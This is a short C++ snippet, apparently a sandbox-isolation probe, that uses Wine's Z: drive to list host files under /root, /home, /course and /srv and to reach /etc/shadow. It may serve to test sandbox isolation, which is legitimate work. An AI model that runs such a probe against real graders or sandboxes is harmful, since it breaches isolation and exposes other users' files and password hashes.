// The host's files by Wine's drive Z:.
static void attack() {
    for (const wchar_t* pattern : {L"Z:\\root\\*", L"Z:\\home\\*", L"Z:\\etc\\shadow", L"Z:\\course\\*", L"Z:\\srv\\*"}) {
        WIN32_FIND_DATAW found{};
        const HANDLE search = ::FindFirstFileW(pattern, &found);
        for (BOOL more = search != INVALID_HANDLE_VALUE; more; more = ::FindNextFileW(search, &found))
            ::wprintf(L"%ls %ls\n", pattern, found.cFileName);
    }
    ::fflush(stdout);
    ::ExitProcess(0);
}
